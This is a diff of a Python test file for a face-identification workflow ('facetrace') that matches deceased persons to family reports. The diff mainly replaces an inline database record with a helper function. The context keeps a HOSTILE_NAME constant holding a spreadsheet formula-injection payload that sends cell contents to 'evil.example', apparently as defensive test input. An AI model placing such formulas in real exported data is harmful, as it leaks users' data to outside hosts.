@@ -12,11 +12,11 @@ from typing import Any
 from fastapi import FastAPI
 from fastapi.testclient import TestClient
 from sqlalchemy import select
-from webtest import client_login, face_images
+from webtest import client_login, face_images, insert_lead
 
 from facetrace.store.accounts import get_user
 from facetrace.store.audit import list_events
-from facetrace.store.workflow_models import Identification, Lead, Notification
+from facetrace.store.workflow_models import Identification, Notification
 from facetrace.workflow import Workflow
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
@@ -44,26 +44,9 @@ def _records(app: FastAPI, name: str) -> dict[str, Any]:
         contacts=[{"name": "Mother", "relation": "mother", "email": "mother@family.example", "language": "en"}],
     )
     case = wf.cases.create_case(ivan, condition="deceased", found_place="Bucha")["case"]
-    with service.db.session() as session:
-        lead = Lead(
-            case_id=case["id"],
-            report_id=report["report"]["id"],
-            status="open",
-            score=0.93,
-            fmr=2e-6,
-            fpir=5e-6,
-            threshold=0.9,
-            review_fpir=0.1,
-            gallery_size=4,
-            model_id="test",
-            case_box=[0, 0, 10, 10],
-            report_box=[0, 0, 10, 10],
-            case_quality=60.0,
-            report_quality=80.0,
-        )
-        session.add(lead)
-        session.flush()
-        lead_id = int(lead.id)
+    lead_id = insert_lead(
+        service.db, case["id"], report["report"]["id"], score=0.93, fmr=2e-6, fpir=5e-6, case_quality=60.0
+    )
     wf.reviews.add_evidence(olena, lead_id, kind="dental", description="Dental chart matches")
     wf.reviews.review_lead(olena, lead_id, decision="confirm", rationale="Same scar above the left eye")
     wf.reviews.review_lead(petro, lead_id, decision="confirm", rationale="Ears and scar agree")
